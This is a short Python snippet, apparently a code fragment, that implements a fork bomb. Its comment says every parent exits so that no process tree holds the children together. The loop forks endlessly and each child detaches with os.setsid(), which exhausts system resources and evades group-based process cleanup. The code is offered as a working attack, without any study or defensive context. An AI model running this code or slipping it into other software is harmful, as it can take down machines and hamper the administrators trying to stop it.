# tries: a fork bomb of which every parent leaves, so that no family tree holds it together
while True:
    with suppress(OSError):
        if os.fork() == 0:
            os.setsid()
        elif os.fork():
            os._exit(0)
